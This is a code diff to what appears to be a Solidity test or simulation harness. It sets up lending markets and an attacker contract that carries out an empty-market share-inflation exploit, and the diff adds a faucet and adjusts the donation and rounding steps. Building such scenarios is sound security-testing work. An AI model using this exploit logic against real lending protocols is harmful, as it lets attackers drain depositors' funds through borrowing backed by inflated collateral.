@@ -107,6 +107,7 @@ contract EmptyMarketScene is Scene {
         busy.mint(2_000_000e18);
         _protect(address(busy));
         _protect(address(empty));
+        coin.mint(address(this), 1e18);
         _loan(IERC20(address(coin)), 3_000_000e18);
         loot0 = IERC20(address(usd));
         loot1 = IERC20(address(coin));
@@ -115,6 +116,11 @@ contract EmptyMarketScene is Scene {
 
     function enrol(address[] calldata users) external override {
         _arm(usd, users, 400_000e18, address(busy));
+    }
+
+    /// A faucet: anybody may have a little of the new coin.
+    function drip() external {
+        coin.transfer(msg.sender, 1_000);
     }
 
     function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
@@ -132,16 +138,19 @@ contract EmptyMarketScene is Scene {
 contract EmptyMarketAttack is Attack {
     Market private immutable busy;
     Market private immutable empty;
+    EmptyMarketScene private immutable faucet;
 
     constructor(EmptyMarketScene scene) Attack(scene) {
-        (busy, empty) = (scene.busy(), scene.empty());
+        (busy, empty, faucet) = (scene.busy(), scene.empty(), scene);
     }
 
     /// Two base units of shares are made worth everything, all else is borrowed, and rounding gives the gift back.
     function _act(uint256, uint256, uint256) internal override {
         loanToken.approve(address(empty), type(uint256).max);
         empty.mint(400_000_000);
-        uint256 gift = loanToken.balanceOf(address(this));
+        // The lender gets every unit back, and rounding keeps one.
+        faucet.drip();
+        uint256 gift = loanToken.balanceOf(address(this)) - 1_000;
         loanToken.transfer(address(empty), gift);
         uint256 cash = loot0.balanceOf(address(busy));
         busy.borrow(cash < gift * 3 / 4 ? cash : gift * 3 / 4);
